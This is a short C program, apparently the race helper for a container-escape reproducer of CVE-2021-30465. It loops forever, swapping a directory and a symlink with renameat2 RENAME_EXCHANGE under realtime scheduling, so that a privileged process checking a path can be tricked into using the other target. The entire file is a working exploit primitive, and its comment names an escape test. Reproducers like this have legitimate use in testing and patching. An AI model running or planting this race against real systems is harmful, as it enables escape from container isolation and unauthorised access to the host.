/* SPDX-License-Identifier: MIT */
/*
 * swap.c - exchange two names again and again: a folder, and a symlink
 *
 * Usage:  swap ONE OTHER
 *
 * Whoever looks at one of them, is content, and then uses its name once more,
 * may get the other (CVE-2021-30465).  Never ends; ahead of everybody else if
 * it may be, with a pause after each.
 *
 * Read:   renameat2(2), RENAME_EXCHANGE
 * Test:   tests/escape.sh
 */
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <time.h>

int main(int argc, char **argv)
{
	struct sched_param first = { .sched_priority = 1 };
	struct timespec pause = { .tv_nsec = 300000 };

	if (argc != 3)
		return 2;
	(void)sched_setscheduler(0, SCHED_FIFO, &first);
	for (;;) {
		if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2],
			      RENAME_EXCHANGE) < 0) {
			perror("swap");
			return 1;
		}
		(void)nanosleep(&pause, NULL);
	}
}
